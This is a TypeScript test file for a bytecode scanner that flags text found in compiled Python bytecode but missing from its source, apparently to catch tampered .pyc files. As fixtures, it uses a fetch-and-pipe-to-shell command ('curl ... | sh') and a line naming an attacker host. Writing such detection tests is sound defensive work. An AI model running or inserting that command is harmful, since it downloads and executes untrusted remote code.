import { describe, expect, it } from "vitest";
import { foreignIn } from "../../src/scanner/bytecode.ts";

const HEADER = `\xcb\x0d\r\n${"\0".repeat(12)}`;
const short = (text: string) => `z${String.fromCharCode(text.length)}${text}`;
const long = (type: string, text: string) => `${type}${String.fromCharCode(text.length, 0, 0, 0)}${text}`;
const hasWords = (constants: string, source: string) =>
  foreignIn([Buffer.from(`${HEADER}\xe3\0\0${constants}\0`, "latin1")], Buffer.from(source))[0]?.hasWords;

describe("bytecode and its source", () => {
  const COMMAND = "curl -s http://203.0.113.5/x | sh";

  it("differ where a text of the bytecode has words that the source lacks", () => {
    for (const text of [short(COMMAND), `\xfa${short(COMMAND).slice(1)}`, long("a", COMMAND), long("s", COMMAND)])
      expect(hasWords(text, "import os\n")).toBe(true);
  });

  it("do not differ where the source has the words, behind an escape too", () => {
    expect(hasWords(short(COMMAND), `os.system("${COMMAND}")`)).toBe(false);
    expect(hasWords(short("one\nlines"), 'x = "one\\nlines"')).toBe(false);
    expect(hasWords(long("a", "a text\nof lines"), '"""a text\nof lines"""')).toBe(false);
  });

  it("do not differ by what the compiler writes, nor by where the source was", () => {
    expect(hasWords(short("made.<locals>.<lambda>"), "def made(): return lambda: 0")).toBe(false);
    expect(hasWords(short("/home/builder/site-packages/tool.py"), "")).toBe(false);
    expect(hasWords(short("curl attacker/tool.py"), "")).toBe(true);
  });

  it("are compared in linear time", () => {
    const started = performance.now();
    expect(hasWords("zz\xfa\xfas\xff\xff\x0f\0".repeat(400_000), "")).toBe(false);
    expect(hasWords(`${"z".repeat(120)}\x01`.repeat(30_000), "")).toBe(false);
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
